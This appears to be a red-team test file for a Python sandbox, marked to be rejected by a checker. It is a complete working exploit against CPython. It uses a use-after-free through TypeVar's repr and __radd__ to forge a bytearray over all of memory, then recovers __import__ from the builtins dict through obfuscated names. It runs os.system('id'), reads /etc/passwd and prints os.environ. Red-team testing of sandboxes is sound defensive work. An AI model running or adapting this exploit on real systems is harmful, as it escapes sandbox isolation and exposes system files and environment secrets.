# expect: reject memory
# line: 22
# why: round 97c (red team): typing.TypeVar keeps any object as its __name__, and its repr computes '~' + self.__name__, so the name's __radd__ ran inside a list's C repr of a slice and freed it (id, /etc/passwd, os.environ); the dunders library text code calls on what it holds (library-held-calls.txt: TypeVar __repr__ __radd__, Semaphore __repr__ __bool__) are text hooks
import typing

L = []
G = []
KEEP = []


def q(v):
    return v.to_bytes(8, "little")


class Box:
    __slots__ = ("__dict__", "a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m", "n")


class Catch:
    def __radd__(self, other):
        # self lives in KEEP[0] at offset 96: make it a bytearray over all memory
        KEEP[0][104:152] = q(id(bytearray)) + q(1 << 62) + q((1 << 62) + 1) + q(0) + q(0) + q(0)
        G.append(self)
        return "c"


class Wipe:
    def __radd__(self, other):
        L.clear()
        buf = bytearray(159)
        buf[0:112] = HDR[0]
        KEEP.append(buf)
        return "w"


HDR = []
victim = Box()
base = id(victim) - 32
HDR.append(
    q(base + 56) + q(0) + q(0) + q(0)                       # values, dict, GC header
    + q(1 << 40) + q(id(typing.TypeVar)) + q(0)             # a TypeVar at offset 32
    + q(base + 96) + q(id(False)) + q(id(False)) + q(0) + q(0)   # its values: __name__, co, contra
    + q(1 << 40) + q(id(Catch))                              # a Catch at offset 96
)
L.append(slice(typing.TypeVar(Wipe()), victim))
victim = None
try:
    text = repr(L)
except Exception:
    pass
mem = G[0]


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def wr(addr, v):
    mem[addr:addr + 8] = q(v)


mod = rd(id(print) + 24)
bdict = rd(mod + 16)
holder = [None]
items = rd(id(holder) + 24)
wr(bdict, rd(bdict) + 1)
wr(items, bdict)
table = holder[0]
imp = table["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
